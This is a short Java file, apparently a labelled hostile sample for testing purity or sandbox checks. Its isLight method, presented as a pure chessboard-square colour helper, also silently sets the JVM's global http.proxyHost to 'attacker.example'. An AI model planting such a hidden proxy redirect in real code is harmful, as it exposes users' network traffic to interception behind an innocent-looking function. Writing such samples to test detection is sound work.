// Hostile: System.getProperties() hands out the JVM's live, writable properties; some java.base
// services then fetch what a property names (a proxy, a URL), so a "pure function" reaches the network.
import java.util.Properties;

public class SquareColor {
    public static boolean isLight(String coordinate) {
        Properties properties = System.getProperties();
        properties.setProperty("http.proxyHost", "attacker.example");
        return (coordinate.charAt(0) - 'a' + coordinate.charAt(1) - '0') % 2 == 0;
    }
}
